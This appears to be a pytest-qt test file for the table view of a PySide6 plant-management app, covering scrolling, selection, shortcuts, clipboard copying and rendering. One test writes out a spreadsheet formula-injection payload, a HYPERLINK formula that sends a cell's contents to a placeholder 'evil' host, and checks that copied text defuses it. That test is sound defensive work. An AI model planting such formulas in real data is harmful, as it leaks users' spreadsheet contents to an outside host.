import csv
import io
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QAccessible, QColor, QFontMetrics, QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QPushButton, QWidget
from pytestqt.qtbot import QtBot

from plantdesk.domain.edits import DeleteAll
from plantdesk.domain.imports import OnConflict
from plantdesk.domain.records import FORM, Changes, PlantRow
from plantdesk.domain.selections import Selection
from plantdesk.domain.validation import new_plant
from plantdesk.store.sqlite.store import SqliteStore
from plantdesk.transfer.files import input_file
from plantdesk.transfer.importing import FileImport, ImportOptions
from plantdesk.ui.bridge import Bridge
from plantdesk.ui.plants.browser import PlantBrowser
from plantdesk.ui.plants.table.cells import Column
from plantdesk.ui.plants.table.view import PlantTableView
from plantdesk.ui.theme.colors import hue_of, mix_colors, pill_colors
from plantdesk.ui.theme.metrics import M
from plantdesk.ui.theme.theme import Theme
from tests.support.costs import cpu_seconds
from tests.support.waiting import MILLISECONDS, SECONDS
from tests.ui.conftest import Adder

CONTROL = Qt.KeyboardModifier.ControlModifier


@pytest.fixture
def table(qtbot: QtBot, browser: PlantBrowser, store: SqliteStore, add: Adder) -> PlantTableView:
    """The table with a hundred plants, the newest on top, and no signal of them pending."""
    add(*(f"Fern {number}" for number in range(1, 101)))
    browser.set_store(store)
    qtbot.waitUntil(lambda: browser.model.rows.is_complete and browser.model.rowCount() == 100)
    qtbot.waitUntil(lambda: "…" not in visible_names(browser.table))
    return browser.table


def visible_names(table: PlantTableView) -> list[str]:
    last = table.rowAt(table.viewport().height() - 1)
    return [table.model().index(row, Column.NAME).data() for row in range(table.rowAt(0), last + 1)]


def list_selected(table: PlantTableView) -> list[int]:
    return list(table.selected_ids())


def find_pill(table: PlantTableView) -> QPushButton:
    return next(button for button in table.window().findChildren(QPushButton) if "new plants" in button.toolTip())


def click_row(table: PlantTableView, row: int, modifier: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier) -> None:
    place = table.visualRect(table.model().index(row, Column.NAME)).center()
    QTest.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, modifier, place)


def read_colors(table: PlantTableView, row: int, column: Column) -> set[str]:
    """The colours in a cell, as painted."""
    picture = table.viewport().grab(table.visualRect(table.model().index(row, column))).toImage()
    places = ((x, y) for x in range(picture.width()) for y in range(picture.height()))
    return {picture.pixelColor(x, y).name().upper() for x, y in places}


# --- what stays ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [2_000, 50_000])
@pytest.mark.parametrize("elsewhere", [True, False])
def test_the_list_stays_at_its_top_whatever_number_is_imported(
    qtbot: QtBot, table: PlantTableView, store: SqliteStore, tmp_path: Path, count: int, *, elsewhere: bool
) -> None:
    file = tmp_path / "file.csv"
    file.write_text("name\n" + "".join(f"New {number}\n" for number in range(1, count + 1)))
    if elsewhere:
        subprocess.run([sys.executable, "-m", "plantdesk", "import", "--database", store.path, file], check=True)
    else:
        with FileImport(store, ImportOptions(), lambda *_: None) as files:
            files.read([input_file(file)])
            files.compare(OnConflict.REFUSE)
            files.apply(skip_invalid=False)
    qtbot.waitUntil(lambda: table.model().rowCount() == 100 + count, timeout=MILLISECONDS)
    qtbot.waitUntil(lambda: visible_names(table)[:2] == [f"New {count}", f"New {count - 1}"])
    assert not table.verticalScrollBar().value()
    assert not find_pill(table).isVisible()


def test_nothing_moves_when_the_user_has_scrolled_until_the_pill_is_pressed(
    qtbot: QtBot, table: PlantTableView, add: Adder
) -> None:
    table.verticalScrollBar().setValue(500)
    before = visible_names(table)
    add("Aloe", "Basil", "Cactus")
    qtbot.waitUntil(find_pill(table).isVisible)
    assert visible_names(table) == before
    assert find_pill(table).text() == "3 new plants"
    QTest.mouseClick(find_pill(table), Qt.MouseButton.LeftButton)
    assert visible_names(table)[0] == "Cactus"
    assert not find_pill(table).isVisible()
    table.verticalScrollBar().setValue(500)
    add("Dill")
    qtbot.waitUntil(find_pill(table).isVisible)
    find_pill(table).setFocus()
    QTest.keyClick(find_pill(table), Qt.Key.Key_Space)
    assert table.hasFocus()


def test_nothing_moves_when_something_is_selected(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
    click_row(table, 2)
    before = visible_names(table)
    add("Aloe")
    qtbot.waitUntil(find_pill(table).isVisible)
    assert visible_names(table) == before
    assert list_selected(table) == [98]
    assert find_pill(table).text() == "1 new plant"


def test_a_selection_far_below_hides_no_new_plant(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
    table.keeper.go_to_plant(10)
    table.scrollToTop()
    add("Aloe")
    qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
    assert (list_selected(table), find_pill(table).isVisible()) == ([10], False)


def test_the_pill_counts_all_rows_that_are_new_and_still_there(
    qtbot: QtBot, table: PlantTableView, store: SqliteStore, bridge: Bridge, add: Adder
) -> None:
    table.verticalScrollBar().setValue(500)
    rows = add(*(f"Aloe {number}" for number in range(30)))
    qtbot.waitUntil(lambda: find_pill(table).text() == "30 new plants")
    store.apply([DeleteAll(Selection(ids=[row.id for row in rows[:20]]))], FORM).result()
    qtbot.waitUntil(lambda: find_pill(table).text() == "10 new plants")
    bridge.notify_changes(Changes(needs_reload=True))
    add(*(f"Basil {number}" for number in range(1200)))
    qtbot.waitUntil(lambda: find_pill(table).text() == "1,210 new plants")


def test_the_pill_covers_nothing_and_is_in_the_accessibility_tree(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder
) -> None:
    browser.resize(640, 400)
    browser.search_bar.set_tags_button(visible=True)
    table.verticalScrollBar().setValue(500)
    add("Aloe")
    qtbot.waitUntil(find_pill(table).isVisible)
    qtbot.waitUntil(lambda: find_pill(table).width() == find_pill(table).sizeHint().width())
    bar = browser.search_bar
    beside = [widget for widget in bar.findChildren(QWidget) if widget.isVisible() and widget.parent() is bar]
    beside.remove(find_pill(table))
    assert not any(each.geometry().intersects(find_pill(table).geometry()) for each in beside)
    seen = QAccessible.queryAccessibleInterface(bar)
    names = [seen.child(place).text(QAccessible.Text.Name) for place in range(seen.childCount())]
    assert "1 new plant" in names


def test_the_current_row_stays_visible_when_the_table_gets_lower(qtbot: QtBot, table: PlantTableView) -> None:
    row = table.rowAt(table.viewport().height() - 1) - 1
    click_row(table, row)
    browser = table.window()
    browser.resize(browser.width(), browser.height() - 150)
    qtbot.waitUntil(lambda: table.visualRect(table.currentIndex()).bottom() < table.viewport().height())
    table.verticalScrollBar().setValue(1000)
    browser.resize(browser.width(), browser.height() - 50)
    assert table.verticalScrollBar().value() == 1000, "what the user scrolled away from stays away"


@pytest.mark.parametrize("modifier", [Qt.KeyboardModifier.NoModifier, CONTROL])
def test_home_and_end_go_to_the_first_and_the_last_row(table: PlantTableView, modifier: Qt.KeyboardModifier) -> None:
    click_row(table, 5)
    for key, row in ((Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0), (Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0)):
        QTest.keyClick(table, key, modifier)
        assert (table.currentIndex().row(), list_selected(table)) == (row, [100 - row])
        assert table.viewport().rect().contains(table.visualRect(table.currentIndex()).center())
    QTest.keyClick(table, Qt.Key.Key_Down)
    assert list_selected(table) == [99]


def test_with_shift_home_and_end_select_all_rows_up_to_there(table: PlantTableView) -> None:
    click_row(table, 5)
    QTest.keyClick(table, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)
    assert list_selected(table) == list(range(95, 0, -1))
    QTest.keyClick(table, Qt.Key.Key_Home, Qt.KeyboardModifier.ShiftModifier | CONTROL)
    assert list_selected(table) == list(range(100, 94, -1))


def test_a_selected_plant_is_found_again_far_down_in_another_order(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder
) -> None:
    add(*(f"Fern {number}" for number in range(101, 1101)))
    qtbot.waitUntil(lambda: browser.model.rows.is_current and browser.model.rowCount() == 1100)
    click_row(table, 2)
    click_row(table, 4, CONTROL)
    browser.table.sortByColumn(Column.ID, Qt.SortOrder.AscendingOrder)
    qtbot.waitUntil(lambda: browser.model.rows.is_current and browser.model.id_at(0) == 1)
    assert list_selected(table) == [1096, 1098]
    assert browser.model.id_at(table.currentIndex().row()) == 1096
    assert table.viewport().rect().contains(table.visualRect(table.currentIndex()))


@pytest.mark.parametrize(("rows", "left"), [((2, 4), []), ((2,), [98])])
def test_another_search_drops_a_selection_of_several_plants(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, rows: tuple[int, ...], left: list[int]
) -> None:
    click_row(table, rows[0])
    for row in rows[1:]:
        click_row(table, row, CONTROL)
    for text in ("9", ""):
        with qtbot.waitSignal(browser.model.rows_replaced):
            browser.search_field.setText(text)
    qtbot.waitUntil(lambda: browser.model.rows.is_current)
    assert list_selected(table) == left


def test_the_visible_rows_stay_when_all_rows_are_replaced(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, other_program: sqlite3.Connection
) -> None:
    click_row(table, 5)
    table.verticalScrollBar().setValue(707)
    before = visible_names(table)
    with qtbot.waitSignal(browser.model.rows_replaced):
        other_program.execute("UPDATE plant SET seq = seq + 1000 WHERE id <= 10")
        other_program.commit()
        browser.apply(Changes(needs_reload=True))
    qtbot.waitUntil(lambda: "…" not in visible_names(table))
    assert visible_names(table)[:5] == before[:5]
    assert list_selected(table) == [95]


# --- keys ---------------------------------------------------------------------------------------------------------


def test_ctrl_a_also_selects_the_rows_that_are_still_being_read(
    qtbot: QtBot, browser: PlantBrowser, store: SqliteStore, add: Adder
) -> None:
    add(*(f"Fern {number}" for number in range(1, 1101)))
    complete = []

    def select_all() -> None:
        complete.append(browser.model.rows.is_complete)
        QTest.keyClick(browser.table, Qt.Key.Key_A, CONTROL)

    browser.model.rows_replaced.connect(select_all, Qt.ConnectionType.SingleShotConnection)
    browser.set_store(store)
    qtbot.waitUntil(lambda: browser.model.rows.is_complete and browser.model.rowCount() == 1100)
    assert complete == [False]
    assert browser.table.selected_count() == 1100
    add("Aloe")
    qtbot.waitUntil(lambda: browser.model.rowCount() == 1101)
    assert browser.table.selected_count() == 1100


@pytest.mark.timing
def test_ctrl_a_costs_the_same_for_any_number_of_rows_with_a_screen_reader(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Qt's own table lists every cell for assistive programs: 5 s for a hundred thousand rows."""

    def select_all() -> None:
        QTest.keyClick(table, Qt.Key.Key_Up)
        QTest.keyClick(table, Qt.Key.Key_A, CONTROL)

    monkeypatch.setattr(QAccessible, "updateAccessibility", lambda _event: None)
    QAccessible.setActive(True)
    cost_of_few = cpu_seconds(select_all)
    browser.apply(Changes(tuple(PlantRow(plant_id, "Fern", None, 0, FORM) for plant_id in range(1000, 20_900))))
    qtbot.waitUntil(lambda: table.model().rowCount() == 20_000)
    cost = cpu_seconds(select_all)
    QAccessible.setActive(False)
    assert table.selected_count() == 20_000
    assert cost < 50 * cost_of_few


def test_typing_a_letter_does_not_read_the_whole_table(table: PlantTableView) -> None:
    click_row(table, 3)
    QTest.keyClicks(table, "fern 9")
    assert table.currentIndex().row() == 3


@pytest.mark.parametrize("rows", [[0], [1, 3, 4]])
def test_ctrl_c_copies_the_selected_rows_as_a_table(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, rows: list[int]
) -> None:
    for row in rows:
        click_row(table, row, CONTROL)
    with qtbot.waitSignal(browser.copier.copied) as received:
        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
    lines = QGuiApplication.clipboard().text().splitlines()
    assert lines[0] == "ID\tName\tTag\tAdded\tFrom"
    assert [line.split("\t")[:3] for line in lines[1:]] == [[str(100 - row), f"Fern {100 - row}", ""] for row in rows]
    assert received.args == [f"Copied {len(rows)} plants." if len(rows) > 1 else "Copied 1 plant."]


@pytest.mark.parametrize("time", [-62_135_596_800_000, 253_402_300_799_999, -1000])
def test_copied_names_keep_their_lines_inside_quotes_whatever_their_time(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: SqliteStore, time: int
) -> None:
    name = 'two\nlines, a\ttab and a "quote"'
    with closing(sqlite3.connect(store.path, isolation_level=None)) as other:  # another program
        other.execute("UPDATE plant SET name = ?, added_at = ? WHERE id = 100", (name, time))
    click_row(table, 0)
    with qtbot.waitSignal(browser.copier.copied):
        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
    assert '100\t"two\nlines, a\ttab and a ""quote"""\t' in QGuiApplication.clipboard().text()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_copied_name_is_a_formula(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: SqliteStore, start: str
) -> None:
    name = f'{start}HYPERLINK("http://evil/?"&B2)'
    store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(SECONDS)
    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
    click_row(table, 0)
    with qtbot.waitSignal(browser.copier.copied) as received:
        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
    text = QGuiApplication.clipboard().text().replace("\r\n", "\n")
    (_, (plant_id, copied, tag, *_)) = csv.reader(io.StringIO(text, newline=""), "excel-tab")
    assert (plant_id, copied, tag) == ("-5", "'" + name, "'+1")
    assert received.args == ["Copied 1 plant. 2 cells that a spreadsheet would take for formulas begin with ' now."]


def test_more_plants_than_a_clipboard_should_hold_are_refused(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("plantdesk.ui.plants.table.clipboard.MAX_ROWS", 99)
    QGuiApplication.clipboard().setText("before")
    table.selectAll()
    with qtbot.waitSignal(browser.copier.refused) as refused:
        QTest.keyClick(table, Qt.Key.Key_C, CONTROL)
    assert refused.args == ["Up to 99 plants can be copied at once. Select fewer, then copy again."]
    assert QGuiApplication.clipboard().text() == "before"


# --- look ---------------------------------------------------------------------------------------------------------


def test_a_tag_is_a_pill_and_no_tag_is_a_dash(qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme) -> None:
    add("Aloe", tag="kitchen")
    add("Basil", tag="")
    qtbot.waitUntil(lambda: visible_names(table)[:2] == ["Basil", "Aloe"])
    ground = pill_colors(hue_of("kitchen"), dark=False).background.name().upper()
    assert ground in read_colors(table, 1, Column.TAG)
    assert theme.colors.border in read_colors(table, 0, Column.TAG)
    assert {ground, theme.colors.border}.isdisjoint(read_colors(table, 2, Column.TAG))


@pytest.mark.parametrize("scale", [1.1, 1.21, 1.33, 2])
def test_larger_text_makes_room_for_the_ids(table: PlantTableView, theme: Theme, scale: float) -> None:
    table.columns.set_widest_id("1000000")
    for each in (1.25, 1.0, scale):  # digits of some sizes are of equal width in whole pixels
        theme.set_text_scale(each)
    digits = QFontMetrics(theme.font()).horizontalAdvance("1000000")
    assert table.columnWidth(Column.ID) - 2 * M >= digits
    theme.set_text_scale(1)


def test_a_new_row_is_tinted_for_a_while_and_marked_longer(
    qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("_TINT_SECONDS", "_MARK_SECONDS"):
        monkeypatch.setattr(f"plantdesk.ui.plants.table.delegate.{name}", SECONDS)  # on a machine of any speed
    add("Aloe")
    qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
    tint = mix_colors(theme.colors.color("ok_bg"), theme.colors.color("surface"), 0.7).name().upper()
    assert {theme.colors.accent, tint} <= read_colors(table, 0, Column.ID)
    monkeypatch.setattr("plantdesk.ui.plants.table.delegate._TINT_SECONDS", 0)
    assert tint not in read_colors(table, 0, Column.ID)
    assert theme.colors.accent in read_colors(table, 0, Column.ID)


def test_a_new_row_is_marked_wherever_the_order_puts_it(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder, theme: Theme
) -> None:
    with qtbot.waitSignal(browser.model.rows_replaced):
        browser.table.sortByColumn(Column.NAME, Qt.SortOrder.AscendingOrder)
    add("Fern 10 bis")
    qtbot.waitUntil(lambda: visible_names(table)[1:3] == ["Fern 10", "Fern 10 bis"])
    assert theme.colors.accent in read_colors(table, 2, Column.ID)
    assert theme.colors.accent not in read_colors(table, 1, Column.ID)


@pytest.fixture
def _right_to_left(qapp: QApplication) -> Iterator[None]:
    qapp.setLayoutDirection(Qt.LayoutDirection.RightToLeft)
    yield
    qapp.setLayoutDirection(Qt.LayoutDirection.LeftToRight)


@pytest.mark.usefixtures("_right_to_left")
def test_rows_are_mirrored(qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme) -> None:
    add("Aloe", tag="kitchen")
    qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
    picture = table.viewport().grab().toImage()
    middle = table.rowHeight(0) // 2
    assert picture.pixelColor(picture.width() - 1, middle) == QColor(theme.colors.accent)
    cell = table.visualRect(table.model().index(0, Column.TAG))
    pixels = {picture.pixelColor(x, middle).name() for x in range(cell.right() - M - 4, cell.right() - M + 4)}
    assert pill_colors(hue_of("kitchen"), dark=False).background.name() in pixels


@pytest.mark.parametrize("name", ["", "   ", "\0", "\n\n", "x" * 1_000_000, "\u202etfel ot thgir"])
def test_odd_names_are_painted_on_their_line(
    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, name: str
) -> None:
    browser.apply(Changes((PlantRow(2**63 - 1, name, "\n", 0, FORM),)))
    qtbot.waitUntil(lambda: table.model().rowCount() == 101)
    assert table.rowHeight(0) == 34
    assert len(read_colors(table, 0, Column.NAME)) > 3
